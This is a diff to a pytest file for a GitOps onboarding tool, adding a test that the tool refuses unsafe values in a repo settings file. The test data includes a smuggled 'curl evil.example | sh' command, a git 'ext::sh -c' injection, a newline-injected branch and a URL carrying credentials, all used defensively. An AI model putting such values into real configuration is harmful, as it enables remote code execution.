@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
-from gitops_ci.errors import ConfigurationError
+from gitops_ci.errors import ConfigurationError, UsageError
 from gitops_ci.onboard.conventions import (
     Cluster,
     Conventions,
@@ -47,3 +49,23 @@ def test_init_refuses_values_that_would_bend_the_yaml_it_writes(
 def test_what_init_writes_reads_back_the_same() -> None:
     written = conventions(groups=("platform", "platform/teams.web_1"))
     assert parse_conventions(render_conventions(written)) == written
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "fragment"),
+    [
+        ("argocd_namespace", "argocd; curl evil.example | sh", "argocd_namespace"),
+        ("branch", "main\nx", "branch"),
+        ("repo_url", "ext::sh -c touch% /tmp/x", "not a plain URL"),
+        ("repo_url", "https://user:token@gitlab.example.com/m.git", "credentials"),
+    ],
+)
+def test_a_settings_file_from_the_repo_is_checked_like_the_options(
+    field: str, value: str, fragment: str
+) -> None:
+    text = render_conventions(conventions()).replace(
+        f"{field}: {getattr(conventions(), field)}", f"{field}: {json.dumps(value)}"
+    )
+    with pytest.raises(UsageError, match=fragment) as refused:  # exit 2, the file named
+        parse_conventions(text)
+    assert str(refused.value).startswith("gitops-ci.yaml: ")
